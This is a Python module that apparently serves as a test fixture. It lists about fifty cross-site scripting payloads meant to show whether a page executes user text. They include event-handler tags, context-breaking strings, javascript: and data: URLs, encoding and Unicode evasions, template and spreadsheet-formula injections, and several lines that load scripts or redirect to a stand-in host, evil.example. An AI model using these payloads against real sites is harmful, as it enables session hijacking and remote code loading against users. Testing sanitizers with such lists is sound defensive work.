"""Strings that run a script where a page takes text for more than text: the classic kinds, chosen and written by us.

Each that ran would set ``window.struck``, open a dialog, or ask a server elsewhere.
"""

from __future__ import annotations

ATTACKS: tuple[str, ...] = (
    # Elements that run by themselves.
    "<script>struck=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>struck=1</scr</script>ipt>",
    "<img src=x onerror=struck=1>",
    "<img src=x:x onerror\x0b=\x0bstruck=1//",
    "<svg onload=struck=1>",
    "<svg><script>struck&#61;1</script></svg>",
    "<svg><animate onbegin=struck=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>struck=1</script></svg>#x'>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<body onpageshow=alert(2)>",
    "<details open ontoggle=struck=1>x</details>",
    "<input autofocus onfocus=struck=1>",
    "<video><source onerror=struck=1></video>",
    "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>",
    "<object data='data:text/html,<script>alert(3)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<marquee onstart=struck=1>x</marquee>",
    # Out of whatever the text stands in.
    "\"><script>struck=1</script>",
    "'><img src=x onerror=struck=1>",
    "\" onmouseover=struck=1 x=\"",
    "' autofocus onfocus=struck=1 x='",
    "` onclick=struck=1 `",
    "</title><script>struck=1</script>",
    "</textarea></select></style></script><script>struck=1</script>",
    "--><script>struck=1</script><!--",
    "]]><script>struck=1</script>",
    "</mark></blockquote></bdi></a></td></table><img src=x onerror=struck=1>",
    "\\\"};struck=1;//",
    # Addresses that are scripts.
    "javascript:struck=1",
    "JaVa\tScRiPt:struck=1",
    "&#106;avascript:struck=1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "[a](javascript:struck=1) ![b](x\" onerror=\"struck=1)",
    "<a href=javascript:struck=1>x</a>",
    # Templates, styles, entities, and letters that turn into others.
    "{{ constructor.constructor('struck=1')() }} ${struck=1} #{struck=1} <%= struck=1 %> {% raw %}{{ 7*7 }}",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "&lt;script&gt;struck=1&lt;/script&gt;",
    "%3Cscript%3Estruck=1%3C/script%3E",
    "＜script＞struck=1＜/script＞ \u02b9\u02ba\uff1cimg src=x onerror=struck=1\uff1e",
    "<s\u0131cr\u200bipt>struck=1</scr\u200bipt> \u202e<img src=x onerror=struck=1>\u202c\ufeff",
    "+ADw-script+AD4-struck=1+ADw-/script+AD4-",
    "<\u017fcript>struck=1</\u017fcript>",
    "=HYPERLINK(\"http://evil.example/\",\"x\")",
    "x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nX-Evil: 1\r\n\r\n<script>struck=1</script>",
)
